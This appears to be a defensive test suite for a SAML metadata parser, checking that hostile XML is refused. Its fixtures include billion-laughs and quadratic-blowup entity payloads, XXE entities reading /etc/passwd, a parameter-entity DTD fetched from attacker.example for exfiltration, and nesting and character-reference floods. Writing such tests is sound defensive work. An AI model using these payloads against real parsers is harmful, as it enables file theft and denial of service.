import { expect } from "chai";
import { readFileSync } from "node:fs";
import * as path from "node:path";
import { performance } from "node:perf_hooks";
import { MetadataError, type MetadataErrorCode } from "../../../provider/saml/errors";
import {
  MAX_CHARACTER_REFERENCES,
  MAX_ELEMENT_DEPTH,
  MAX_METADATA_BYTES,
  SAML2_BINDINGS,
  parseIdpMetadata,
} from "../../../provider/saml/metadata";
import { IDP_METADATA_FIXTURES } from "./paths";

const MD = "urn:oasis:names:tc:SAML:2.0:metadata";
const SSO = `<md:SingleSignOnService Binding="${SAML2_BINDINGS.httpRedirect}" Location="https://idp.example/sso"/>`;

function metadata(entityId: string, extra = ""): string {
  return `<md:EntityDescriptor xmlns:md="${MD}" entityID="${entityId}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${extra}${SSO}</md:IDPSSODescriptor></md:EntityDescriptor>`;
}

const DTD_REFUSED =
  "the metadata declares a DOCTYPE; DTDs are refused (entity expansion and external entities), and SAML metadata never needs one";
const HTML_PAGE =
  "this is an HTML page, not SAML metadata: use the IdP's federation metadata (XML whose root is an EntityDescriptor), not a sign-in or portal page";

function billionLaughs(): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor [\n  ${levels.join("\n  ")}\n]>\n${metadata("&lol9;")}`;
}

function quadraticBlowup(): string {
  return `<!DOCTYPE md:EntityDescriptor [<!ENTITY a "${"a".repeat(50_000)}">]>${metadata(`${"&a;".repeat(50_000)}`)}`;
}

function deepNesting(depth: number): string {
  return metadata("urn:deep", `<md:Extensions>${"<x:a xmlns:x=\"urn:x\">".repeat(depth)}${"</x:a>".repeat(depth)}</md:Extensions>`);
}

/** Hostile inputs, each refused before any parser expands, fetches or recurses. */
const cases: [string, () => string, MetadataErrorCode, string][] = [
  ["billion laughs (nine levels of tenfold entity expansion)", billionLaughs, "METADATA_DTD_REFUSED", DTD_REFUSED],
  ["quadratic blowup (a 50 KB entity referenced 50,000 times)", quadraticBlowup, "METADATA_DTD_REFUSED", DTD_REFUSED],
  [
    'external entity SYSTEM "file:///etc/passwd"',
    () => `<?xml version="1.0"?><!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${metadata("&xxe;")}`,
    "METADATA_DTD_REFUSED",
    DTD_REFUSED,
  ],
  [
    "parameter entities pulling in a remote DTD",
    () =>
      `<!DOCTYPE md:EntityDescriptor [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; %payload;]>${metadata("&exfil;")}`,
    "METADATA_DTD_REFUSED",
    DTD_REFUSED,
  ],
  [
    "an external DTD subset",
    () => `<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example/metadata.dtd">${metadata("urn:idp")}`,
    "METADATA_DTD_REFUSED",
    DTD_REFUSED,
  ],
  [
    "a DOCTYPE hidden after a byte-order mark, a comment and a processing instruction",
    () => `\uFEFF  <!-- innocent --><?xml-stylesheet href="x"?>\n<!doctype x [<!ENTITY x "y">]>${metadata("&x;")}`,
    "METADATA_DTD_REFUSED",
    DTD_REFUSED,
  ],
  [
    "an HTML sign-in page served where metadata was expected",
    () => `<!DOCTYPE html>\n<html lang="en"><head><title>Sign in</title></head><body><form></form></body></html>`,
    "METADATA_HTML",
    HTML_PAGE,
  ],
  [
    "an XHTML page with an XML declaration and a comment first",
    () => `<?xml version="1.0"?>\n<!-- portal --><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`,
    "METADATA_HTML",
    HTML_PAGE,
  ],
  [
    "an ENTITY declaration outside any DOCTYPE",
    () => metadata("urn:idp", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "METADATA_DTD_REFUSED",
    "the metadata declares an ENTITY; entity declarations are refused (entity expansion and external entities)",
  ],
  [
    "a flood of 500,000 decimal character references",
    () => metadata(`urn:${"&#65;".repeat(500_000)}`),
    "METADATA_TOO_MANY_CHARACTER_REFERENCES",
    `the metadata holds more than ${MAX_CHARACTER_REFERENCES} numeric character references (&#…;); refused as a likely denial-of-service attempt`,
  ],
  [
    "a flood of 400,000 hexadecimal character references in text",
    () => metadata("urn:idp", `<md:Extensions>${"&#x41;".repeat(400_000)}</md:Extensions>`),
    "METADATA_TOO_MANY_CHARACTER_REFERENCES",
    `the metadata holds more than ${MAX_CHARACTER_REFERENCES} numeric character references (&#…;); refused as a likely denial-of-service attempt`,
  ],
  [
    "elements nested 100,000 deep",
    () => deepNesting(100_000),
    "METADATA_TOO_DEEP",
    `the metadata nests elements more than ${MAX_ELEMENT_DEPTH} deep; refused as a likely denial-of-service attempt`,
  ],
  [
    "elements nested one level too deep",
    () => deepNesting(MAX_ELEMENT_DEPTH - 2),
    "METADATA_TOO_DEEP",
    `the metadata nests elements more than ${MAX_ELEMENT_DEPTH} deep; refused as a likely denial-of-service attempt`,
  ],
  [
    "a 6 MB document",
    () => metadata("urn:idp", `<!--${"x".repeat(6 * 1024 * 1024)}-->`),
    "METADATA_TOO_LARGE",
    `the metadata is larger than 5 MiB (${MAX_METADATA_BYTES} bytes)`,
  ],
  [
    "a document under 5 Mi characters but over 5 MiB of UTF-8",
    () => metadata("urn:idp", `<!--${"é".repeat(2_700_000)}-->`),
    "METADATA_TOO_LARGE",
    `the metadata is larger than 5 MiB (${MAX_METADATA_BYTES} bytes)`,
  ],
];

describe("parseIdpMetadata on hostile documents", () => {
  for (const [name, build, code, message] of cases) {
    it(`refuses ${name}`, () => {
      const xml = build();
      const started = performance.now();
      let refused: unknown;
      try {
        parseIdpMetadata(xml);
      } catch (err) {
        refused = err;
      }
      const elapsed = performance.now() - started;
      console.log(`      ${name}: refused in ${elapsed.toFixed(2)} ms (${(xml.length / 1024).toFixed(0)} KiB, ${code})`);
      expect(refused).to.be.instanceOf(MetadataError);
      const err = refused as MetadataError;
      expect({ code: err.code, message: err.message }).to.deep.equal({ code, message });
      expect(err.message).not.to.include("root:");
    });
  }

  it("parses a legitimate aggregate just under the size limit", () => {
    const keycloakLike = readFileSync(path.join(IDP_METADATA_FIXTURES, "keycloak-entities-urn-keycloak.xml"), "utf8");
    const entity = keycloakLike.slice(keycloakLike.indexOf("<md:EntityDescriptor"), keycloakLike.lastIndexOf("</md:EntitiesDescriptor>"));
    const count = Math.floor((MAX_METADATA_BYTES - 64 * 1024) / entity.length);
    const entities = Array.from({ length: count }, (_, i) => entity.replace("/realms/hse\"", `/realms/hse-${i}"`)).join("\n");
    const xml = `<md:EntitiesDescriptor xmlns:md="${MD}">${entities}</md:EntitiesDescriptor>`;
    const started = performance.now();
    const parsed = parseIdpMetadata(xml);
    console.log(`      ${count} entities, ${(xml.length / 1024).toFixed(0)} KiB: parsed in ${(performance.now() - started).toFixed(0)} ms`);
    expect(parsed.entities.map((e) => e.entityId).slice(-2)).to.deep.equal([
      `http://localhost:8080/auth/realms/hse-${count - 2}`,
      `http://localhost:8080/auth/realms/hse-${count - 1}`,
    ]);
  });

  it(`still accepts nesting of exactly ${MAX_ELEMENT_DEPTH} elements`, () => {
    // EntityDescriptor > IDPSSODescriptor > Extensions > 61 × a = 64.
    expect(parseIdpMetadata(deepNesting(MAX_ELEMENT_DEPTH - 3)).entities.map((entity) => entity.entityId)).to.deep.equal([
      "urn:deep",
    ]);
  });

  it(`still accepts ${MAX_CHARACTER_REFERENCES} character references`, () => {
    const xml = metadata("urn:idp", `<md:Extensions>${"&#xD;".repeat(MAX_CHARACTER_REFERENCES)}</md:Extensions>`);
    expect(parseIdpMetadata(xml).entities.length).to.equal(1);
  });

  it("does not take <!DOCTYPE or <!ENTITY inside a comment or CDATA section for a declaration", () => {
    const xml = metadata(
      "urn:idp",
      `<!-- <!DOCTYPE x [<!ENTITY y "z">]> --><md:Extensions><![CDATA[<!ENTITY x SYSTEM "file:///etc/passwd"> <a><b><c>]]></md:Extensions>`,
    );
    expect(parseIdpMetadata(xml).entities.map((entity) => entity.entityId)).to.deep.equal(["urn:idp"]);
  });

  it("does not count a '>' or '/>' inside an attribute value as the end of a tag", () => {
    const xml = metadata("urn:idp?a=>/>", `<md:Extensions note="/>"><x:y xmlns:x="urn:x" v='>'/></md:Extensions>`);
    expect(parseIdpMetadata(xml).entities.map((entity) => entity.entityId)).to.deep.equal(["urn:idp?a=>/>"]);
  });
});
